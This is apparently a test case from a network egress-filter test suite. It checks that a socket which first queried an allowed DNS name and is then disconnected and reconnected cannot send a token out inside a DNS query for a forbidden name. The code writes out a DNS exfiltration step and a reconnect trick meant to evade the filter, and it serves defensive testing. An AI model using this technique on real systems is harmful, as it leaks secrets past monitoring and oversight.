#!/usr/bin/python3
# id: d35k_dns_tcp_reconnected
# title: a socket that asked for an allowed name, is disconnected and connected again
# needs: user
# expect: block
# why: what is known of the first connection is not true of the second
import sys, os; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from bp import *
framed = lambda q: len(q).to_bytes(2, 'big') + q
def f():
    s = socket.create_connection((ALLOW, 53), 3); s.settimeout(2); s.sendall(framed(dnsq(ANAME))); s.recv(600)
    ctypes.CDLL(None).connect(s.fileno(), bytes(16), 16); s.connect((ALLOW, 53)); s.sendall(framed(dnsq(f'{TOK}.{FNAME}'))); s.recv(600)
attempt(f, dst=(ALLOW,), chan=('dns',))
